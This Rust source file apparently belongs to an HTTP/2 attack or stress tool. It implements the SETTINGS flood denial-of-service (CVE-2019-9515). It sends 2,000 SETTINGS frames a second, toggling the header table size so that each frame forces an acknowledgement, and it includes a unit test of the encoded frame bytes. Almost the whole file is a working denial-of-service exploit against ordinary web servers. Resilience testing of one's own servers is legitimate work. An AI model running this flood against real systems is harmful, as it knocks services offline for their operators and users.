//! A SETTINGS flood (CVE-2019-9515): each wants an acknowledgement.

use super::frames;
use super::talk::flood;
use super::wire::{Gone, Wire};

/// Frames a second.
const RATE: f64 = 2_000.0;
const HEADER_TABLE_SIZE: u16 = 1;

pub async fn live(wire: Wire) -> Gone {
    flood(wire, &[], RATE, write).await
}

fn write(number: u64, out: &mut Vec<u8>) {
    let size = if number.is_multiple_of(2) { 4_096 } else { 0 };
    frames::settings(out, &[(HEADER_TABLE_SIZE, size)]);
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_header_table_shrinks_and_grows() {
        let mut out = Vec::new();
        super::write(0, &mut out);
        super::write(1, &mut out);
        let expected =
            b"\0\0\x06\x04\0\0\0\0\0\0\x01\0\0\x10\0\0\0\x06\x04\0\0\0\0\0\0\x01\0\0\0\0";
        assert_eq!(out, expected);
    }
}
